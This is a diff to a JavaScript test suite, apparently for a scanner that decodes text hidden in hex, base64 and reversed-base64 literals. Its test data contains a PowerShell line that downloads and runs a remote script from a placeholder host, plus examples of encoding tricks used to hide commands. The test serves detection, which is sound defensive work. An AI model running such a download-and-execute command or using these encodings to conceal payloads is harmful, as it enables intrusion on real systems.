@@ -10,6 +10,9 @@ describe('texts hidden in literals', () => {
     expect(texts(`x = '${Buffer.from(cmd).toString('hex')}'`)).toEqual([cmd]);
     const ps = "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')";
     expect(texts(`args += ["-Enc", "${Buffer.from(ps, 'utf16le').toString('base64')}"]`)).toEqual([ps]);
+    // base64 written backwards, decoded after turning it round
+    const backwards = [...Buffer.from(cmd).toString('base64')].reverse().join('');
+    expect(texts(`_(b'${backwards}')`)).toEqual([cmd]);
   });
 
   it('decodes literals written wholly in escapes and lists of character codes, where they say something', () => {
